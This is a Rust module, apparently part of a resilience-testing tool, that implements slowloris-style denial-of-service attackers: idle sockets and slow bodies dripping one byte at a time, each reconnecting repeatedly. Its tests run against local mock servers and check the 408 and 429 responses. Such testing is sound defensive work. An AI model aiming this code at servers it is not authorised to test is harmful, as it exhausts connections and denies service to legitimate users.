//! Attackers on raw sockets: idle connections that send nothing, and slow bodies that send a
//! request head and then one body byte at a time. Each opens a new connection, after a
//! pause, whenever the server closes its last one, until the attack ends.

use std::future::Future;
use std::net::Ipv4Addr;
use std::sync::Arc;
use std::time::Duration;

use clap::ValueEnum;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use super::Ctx;
use super::tally::Tally;
use crate::http::{Endpoint, parse_head};

/// The most connections one attacker opens, however long the attack.
const MAX_CONNECTIONS: u32 = 100_000;
/// The most of an answer kept: only its status is wanted.
const MAX_ANSWER: usize = 16 * 1024;

/// An idle socket: sends nothing, and waits for the server to close it.
pub async fn idle(ctx: Arc<Ctx>, tally: Arc<Tally>, source: Ipv4Addr) {
    reconnecting(&ctx, &tally, source, |stream| read_to_close(stream, Answer::new(&tally))).await;
}

/// A slow body: the head, then a byte at a time, until the server closes.
pub async fn slow(ctx: Arc<Ctx>, tally: Arc<Tally>, source: Ipv4Addr, slow: Arc<Slow>) {
    reconnecting(&ctx, &tally, source, |stream| slow.drip(stream, Answer::new(&tally))).await;
}

/// Opens a connection from `source` and runs `session` on it until the server closes it
/// (the session returns the status of the server's answer, if one came); again and again
/// until the attack ends.
async fn reconnecting<F, Fut>(ctx: &Ctx, tally: &Tally, source: Ipv4Addr, mut session: F)
where
    F: FnMut(TcpStream) -> Fut,
    Fut: Future<Output = Option<u16>>,
{
    for _ in 0..MAX_CONNECTIONS {
        if ctx.over() {
            return;
        }
        if let Some(stream) = ctx.connect(source, tally).await {
            let Some(first) = ctx.until_end(session(stream)).await else { return };
            tally.server_closed(first);
        }
        ctx.pause().await;
    }
}

/// What the server answered on one connection: counted as soon as its head is in.
struct Answer<'a> {
    bytes: Vec<u8>,
    status: Option<u16>,
    tally: &'a Tally,
}

impl<'a> Answer<'a> {
    fn new(tally: &'a Tally) -> Self {
        Self { bytes: Vec::new(), status: None, tally }
    }

    /// Keeps what was read until the head is complete, then counts its status.
    fn add(&mut self, read: &[u8]) {
        if self.status.is_some() || self.bytes.len() >= MAX_ANSWER {
            return;
        }
        self.bytes.extend_from_slice(read);
        self.status = parse_head(&self.bytes).ok().flatten().map(|(head, _)| head.status);
        if let Some(status) = self.status {
            self.tally.answer(status);
        }
    }
}

/// Reads until the server closes (or resets): the status of its answer, if one came.
async fn read_to_close(mut stream: TcpStream, mut answer: Answer<'_>) -> Option<u16> {
    let mut scratch = [0u8; 512];
    for _ in 0..MAX_ANSWER {
        match stream.read(&mut scratch).await {
            Ok(0) | Err(_) => break,
            Ok(n) => answer.add(&scratch[..n]),
        }
    }
    answer.status
}

/// Where the slow bodies go: both read a body the same way.
#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
pub enum SlowPath {
    Typing,
    Send,
}

/// What a slow body sends.
pub struct Slow {
    head: String,
    length: usize,
    every: Duration,
}

impl Slow {
    pub fn new(endpoint: &Endpoint, path: SlowPath, length: usize, every: Duration) -> Self {
        let path = match path {
            SlowPath::Typing => "typing",
            SlowPath::Send => "send",
        };
        let head = format!(
            "POST {}/{path} HTTP/1.1\r\nhost: {}\r\ncontent-type: application/json\r\ncontent-length: {length}\r\n\r\n",
            endpoint.prefix, endpoint.authority
        );
        Self { head, length, every }
    }

    /// Sends the head, then a space (JSON whitespace) every `every` while the server reads,
    /// and on after it answers, until it closes: the status of its answer, if one came.
    async fn drip(&self, mut stream: TcpStream, mut answer: Answer<'_>) -> Option<u16> {
        if stream.write_all(self.head.as_bytes()).await.is_err() {
            return read_to_close(stream, answer).await;
        }
        let mut tick = tokio::time::interval(self.every);
        tick.tick().await;
        let (mut sent, mut scratch) = (0, [0u8; 512]);
        // Each turn either reads something or sends a byte: bounded by both.
        for _ in 0..self.length + MAX_ANSWER {
            tokio::select! {
                read = stream.read(&mut scratch) => match read {
                    Ok(0) | Err(_) => return answer.status,
                    Ok(n) => answer.add(&scratch[..n]),
                },
                _ = tick.tick(), if sent < self.length => {
                    if stream.write_all(b" ").await.is_err() {
                        break;
                    }
                    sent += 1;
                }
            }
        }
        read_to_close(stream, answer).await
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::attack::sources::Sources;
    use tokio::net::TcpListener;

    fn tally() -> Tally {
        Tally::new("test", 1, Sources::new(Ipv4Addr::LOCALHOST, 1).unwrap())
    }

    #[test]
    fn a_slow_body_announces_its_length_and_a_json_body() {
        let endpoint = Endpoint::parse("http://127.0.0.1:3000/chat").unwrap();
        let slow = Slow::new(&endpoint, SlowPath::Typing, 65536, Duration::from_secs(1));
        assert_eq!(
            slow.head,
            "POST /chat/typing HTTP/1.1\r\nhost: 127.0.0.1:3000\r\ncontent-type: application/json\r\n\
             content-length: 65536\r\n\r\n"
        );
        let send = Slow::new(&endpoint, SlowPath::Send, 10, Duration::from_secs(1));
        assert!(send.head.starts_with("POST /chat/send HTTP/1.1\r\n"), "{}", send.head);
    }

    /// A server that reads the head and `bytes` body bytes, then answers 408 and closes.
    async fn impatient_server(listener: TcpListener, bytes: usize) -> Vec<u8> {
        let (mut socket, _) = listener.accept().await.unwrap();
        let mut got = Vec::new();
        loop {
            assert!(socket.read_buf(&mut got).await.unwrap() > 0, "the client closed first");
            let head_end = got.windows(4).position(|w| w == b"\r\n\r\n");
            if head_end.is_some_and(|end| got.len() >= end + 4 + bytes) {
                break;
            }
        }
        socket.write_all(b"HTTP/1.1 408 Request Timeout\r\ncontent-length: 0\r\n\r\n").await.unwrap();
        got
    }

    #[tokio::test]
    async fn a_slow_body_drips_bytes_until_the_server_answers_and_closes() {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let server = listener.local_addr().unwrap();
        let endpoint = Endpoint::parse(&format!("http://{server}")).unwrap();
        let slow = Slow::new(&endpoint, SlowPath::Typing, 100, Duration::from_millis(1));
        let serving = tokio::spawn(impatient_server(listener, 3));
        let stream = TcpStream::connect(server).await.unwrap();
        let tally = tally();
        let status =
            tokio::time::timeout(Duration::from_secs(10), slow.drip(stream, Answer::new(&tally))).await;
        assert_eq!(status.unwrap(), Some(408));
        assert_eq!(tally.counts().statuses, [(408, 1)]);
        let got = serving.await.unwrap();
        let text = String::from_utf8(got).unwrap();
        assert!(text.starts_with(&slow.head) && text.ends_with("   "), "{text:?}");
    }

    #[tokio::test]
    async fn an_idle_socket_reports_the_refusal_it_was_answered_with() {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let server = listener.local_addr().unwrap();
        let refusing = tokio::spawn(async move {
            let (mut socket, _) = listener.accept().await.unwrap();
            let refusal =
                b"HTTP/1.1 429 Too Many Requests\r\nconnection: close\r\ncontent-length: 2\r\n\r\n{}";
            socket.write_all(refusal).await.unwrap();
        });
        let stream = TcpStream::connect(server).await.unwrap();
        let tally = tally();
        let status =
            tokio::time::timeout(Duration::from_secs(10), read_to_close(stream, Answer::new(&tally))).await;
        assert_eq!(status.unwrap(), Some(429));
        assert_eq!(tally.counts().statuses, [(429, 1)]);
        refusing.await.unwrap();
    }
}
